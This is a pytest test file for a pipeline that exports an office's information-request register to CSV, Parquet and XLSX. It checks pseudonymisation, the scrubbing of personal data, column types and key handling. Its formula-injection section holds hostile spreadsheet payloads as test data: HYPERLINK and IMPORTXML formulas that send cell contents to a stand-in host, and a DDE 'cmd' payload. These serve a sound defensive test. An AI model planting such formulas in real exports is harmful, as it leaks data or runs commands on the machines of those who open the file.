"""Analysts' export: no personal data in any format, repeat requesters still countable."""

from __future__ import annotations

import datetime as dt
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from pipeline import export
from pipeline.book import read_book
from pipeline.errors import ConfigError, UsageError

FIXTURES = Path(__file__).resolve().parent / "fixtures"
KEY = b"kunci-uji-yang-cukup-panjang-2026"
PII = ["5371012345670001", "5371020101800002", "081234567890", "085239001122", "081333444555",
       "maria@example.org", "yohanes@lsm.example.org", "kornelis@example.net", "El Tari",
       "Maria Goreti Bria", "maria goreti", "Yohanes Seran", "Kornelis Bani", "maria.yaml",
       "Perkumpulan Pemilu Bersih NTT", "Universitas Nusa Cendana"]
PERSONAL = ("phone", "email", "identity_number", "address", "source_file", "requester_name",
            "requester_organization")


@pytest.fixture(scope="module")
def book() -> pd.DataFrame:
    return read_book(FIXTURES / "records_small")


def read_back(path: Path) -> pd.DataFrame:
    if path.suffix == ".csv":
        return pd.read_csv(path, dtype=str, keep_default_na=False)
    if path.suffix == ".parquet":
        return pd.read_parquet(path)
    ws = openpyxl.load_workbook(path)["Register"]
    rows = list(ws.iter_rows(values_only=True))
    return pd.DataFrame(rows[1:], columns=rows[0])


@pytest.mark.parametrize("fmt", export.FORMATS)
def test_no_personal_data_in_any_format(book, tmp_path, fmt):
    path = export.export_book(book, tmp_path, fmt, key=KEY)
    assert path == tmp_path / f"register-export.{fmt}"
    frame = read_back(path)
    assert len(frame) == len(book)
    assert not set(PERSONAL) & set(frame.columns)
    # An organization can name its member (issue 12 item 8): pseudonymised like the name.
    pseudonyms = frame["organization_pseudonym"].replace("", None).dropna()
    assert len(pseudonyms) == book["requester_organization"].notna().sum() == 7
    assert all(re.fullmatch(r"O-[0-9A-F]{8}", p) for p in pseudonyms)
    text = frame.astype(str).to_csv(index=False).lower()
    for value in PII:
        assert value.lower() not in text, value
    assert KEY.decode() not in text
    if fmt == "csv":  # and not in the raw bytes either
        raw = path.read_text(encoding="utf-8")
        assert not any(v in raw for v in PII)


def test_repeat_requesters_share_one_pseudonym(book):
    frame = export.anonymise(book, key=KEY)
    by_no = dict(zip(frame["register_no"], frame["requester_pseudonym"]))
    # Maria Goreti Bria asked 0001, 0012 and 0016 and wrote "maria goreti  bria" on 0007.
    maria = {by_no[n] for n in ("0001/PPID/2026", "0007/PPID/2026", "0012/PPID/2026", "0016/PPID/2026")}
    assert len(maria) == 1
    assert by_no["0002/PPID/2026"] == by_no["0015/PPID/2026"] == by_no["0040/PPID/2025"]  # Yohanes
    assert by_no["0001/PPID/2026"] != by_no["0002/PPID/2026"]
    assert all(re.fullmatch(r"P-[0-9A-F]{8}", p) for p in frame["requester_pseudonym"])
    # 19 requests from 11 people.
    assert frame["requester_pseudonym"].nunique() == 11
    other = export.anonymise(book, key=b"another-key-of-the-office-0001")
    assert set(other["requester_pseudonym"]).isdisjoint(frame["requester_pseudonym"])


def test_free_text_is_scrubbed(book):
    frame = export.anonymise(book, key=KEY).set_index("register_no")
    complaint = frame.loc["0016/PPID/2026", "subject"]
    assert complaint == ("Surat saya belum dibalas, hubungi [dihapus] atau [dihapus] "
                         "(NIK [dihapus])")
    # Ordinary subjects keep their words and years.
    assert frame.loc["0002/PPID/2026", "subject"] == "Rekapitulasi hasil penghitungan suara Pemilu 2024"


@pytest.mark.parametrize("column", ["nomor_hp", "alamat_pemohon", "requester_email", "nik",
                                    "phone_number", "identity_type", "tanggal_lahir", "wa"])
def test_columns_named_for_personal_data_are_dropped(book, column):
    extra = book.assign(**{column: "rahasia"})
    assert column not in export.anonymise(extra, key=KEY).columns


def test_office_can_drop_more_columns(book):
    frame = export.anonymise(book, key=KEY, drop=["purpose"])
    assert "purpose" not in frame.columns


def test_xlsx_has_real_types_widths_and_a_frozen_header(book, tmp_path):
    path = export.export_book(book, tmp_path / "analis.xlsx", "xlsx", key=KEY)
    assert path == tmp_path / "analis.xlsx"
    wb = openpyxl.load_workbook(path)
    ws = wb["Register"]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref.startswith("A1:")
    header = [c.value for c in ws[1]]
    first = dict(zip(header, ws[2]))
    assert first["received_at"].value == dt.datetime(2026, 1, 5, 9, 0)
    assert first["received_at"].number_format == "yyyy-mm-dd hh:mm"
    assert first["due_date"].value == dt.datetime(2026, 1, 19)  # a date cell
    assert first["due_date"].number_format == "yyyy-mm-dd"
    assert first["working_days"].value == 4 and first["working_days"].data_type == "n"
    assert first["on_time"].value is True and first["on_time"].data_type == "b"
    assert first["completed_at"].value is None
    widths = {k: ws.column_dimensions[k].width for k in ("A", "B", "H")}
    assert all(w and w >= 10 for w in widths.values())
    assert ws.column_dimensions["H"].width > ws.column_dimensions["A"].width  # subject
    assert "Keterangan" in wb.sheetnames


def test_parquet_keeps_types(book, tmp_path):
    frame = pd.read_parquet(export.export_book(book, tmp_path, "parquet", key=KEY))
    assert str(frame["received_at"].dtype).startswith("datetime64")
    assert frame["due_date"].iloc[0] == dt.date(2026, 1, 19)
    assert str(frame["working_days"].dtype) == "Int64"
    assert str(frame["on_time"].dtype) == "boolean"


def test_parquet_export_has_the_types_of_the_register_book(book, tmp_path):
    import pyarrow.parquet as pq

    from pipeline.book import ARROW_TYPES
    from pipeline.schema import BOOK_COLUMNS

    schema = pq.read_schema(export.export_book(book, tmp_path, "parquet", key=KEY))
    shared = [f for f in schema if f.name in BOOK_COLUMNS]
    assert len(shared) >= 25
    for field in shared:
        assert field.type == ARROW_TYPES[BOOK_COLUMNS[field.name].kind], field.name
    assert str(schema.field("received_at").type) == "timestamp[us, tz=+08:00]"
    assert str(schema.field("due_date").type) == "date32[day]"
    assert str(schema.field("service").type).startswith("dictionary<values=string")
    assert schema.field("requester_pseudonym").type == "string"


def test_too_many_rows_for_excel(book, tmp_path, monkeypatch):
    monkeypatch.setattr(export, "XLSX_MAX_ROWS", 5)
    with pytest.raises(UsageError, match="parquet or csv"):
        export.export_book(book, tmp_path, "xlsx", key=KEY)


def test_unknown_format(book, tmp_path):
    with pytest.raises(UsageError, match="csv, parquet, xlsx"):
        export.export_book(book, tmp_path, "json", key=KEY)


# --- the key --------------------------------------------------------------------------------


def write_config(folder: Path, key: str) -> Path:
    (folder / "export.yaml").write_text(f"pseudonym_key: {key}\ndrop_columns: []\n", encoding="utf-8")
    return folder


def test_the_stock_key_is_refused(monkeypatch):
    monkeypatch.delenv(export.KEY_ENV, raising=False)
    root = Path(__file__).resolve().parent.parent / "config"
    with pytest.raises(ConfigError, match="stock value"):
        export.load_settings(root)


@pytest.mark.parametrize("key, message", [("''", "no pseudonym key"), ("pendek", "at least 16")])
def test_bad_keys_are_refused(tmp_path, monkeypatch, key, message):
    monkeypatch.delenv(export.KEY_ENV, raising=False)
    with pytest.raises(ConfigError, match=message):
        export.load_settings(write_config(tmp_path, key))


def test_the_key_from_config_or_environment(tmp_path, monkeypatch):
    monkeypatch.delenv(export.KEY_ENV, raising=False)
    settings = export.load_settings(write_config(tmp_path, "rahasia-kantor-ppid-ntt-2026"))
    assert settings["pseudonym_key"] == b"rahasia-kantor-ppid-ntt-2026"
    assert settings["scrub_columns"] == ["subject", "purpose"]
    monkeypatch.setenv(export.KEY_ENV, "dari-lingkungan-bukan-berkas")
    assert export.load_settings(tmp_path)["pseudonym_key"] == b"dari-lingkungan-bukan-berkas"


def test_pseudonym_ignores_case_accents_and_spacing():
    assert export.pseudonym("Maria Goreti Bria", KEY) == export.pseudonym("  MARIA  goreti bría ", KEY)
    assert export.pseudonym("", KEY) is None and export.pseudonym(None, KEY) is None


# --- formula injection (issue 12 item 8; OWASP "CSV Injection") --------------------------------

HOSTILE = '=HYPERLINK("http://x.example/?leak="&A1,"klik")'


@pytest.fixture(scope="module")
def hostile_book(book) -> pd.DataFrame:
    """The book with text a spreadsheet would run, in every kept text column."""
    evil = book.copy()
    evil["subject"] = evil["subject"].astype("string")
    evil.loc[0, "subject"] = HOSTILE
    evil.loc[1, "subject"] = "+1+cmd|' /C calc'!A0"
    evil.loc[2, "subject"] = "-2+3"
    evil.loc[3, "purpose"] = "@SUM(1+1)"
    evil.loc[4, "purpose"] = "\t=1+1"
    evil.loc[5, "purpose"] = "\r=1+1"
    evil.loc[6, "letter_no"] = "=1+1"
    evil.loc[1, "requester_organization"] = "=IMPORTXML(CONCAT(\"http://x.example/?\",A2),\"//a\")"
    return evil


def test_xlsx_text_cells_are_strings_never_formulas(hostile_book, tmp_path):
    path = export.export_book(hostile_book, tmp_path, "xlsx", key=KEY)
    wb = openpyxl.load_workbook(path)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    # Kept as the text it is (xlsx cells are typed: no quote needed).
    assert HOSTILE in values and "-2+3" in values and "@SUM(1+1)" in values and "=1+1" in values
    # The organization is pseudonymised, not written at all.
    assert not any("IMPORTXML" in str(v) for v in values)


def test_csv_export_makes_formula_cells_inert(hostile_book, tmp_path):
    path = export.export_book(hostile_book, tmp_path, "csv", key=KEY)
    import csv

    with path.open(encoding="utf-8", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
    assert "'" + HOSTILE in cells and "'-2+3" in cells and "'\t=1+1" in cells
    assert not any("IMPORTXML" in c for c in cells)


@pytest.mark.slow
def test_libreoffice_runs_no_formula_of_the_csv_export(hostile_book, tmp_path):
    from tests.test_book import formula_cells, soffice_to_xlsx

    path = export.export_book(hostile_book, tmp_path, "csv", key=KEY)
    xlsx = soffice_to_xlsx(path, tmp_path)
    assert formula_cells(xlsx) == []
    ws = openpyxl.load_workbook(xlsx).active
    assert "'" + HOSTILE in [c.value for row in ws.iter_rows() for c in row]
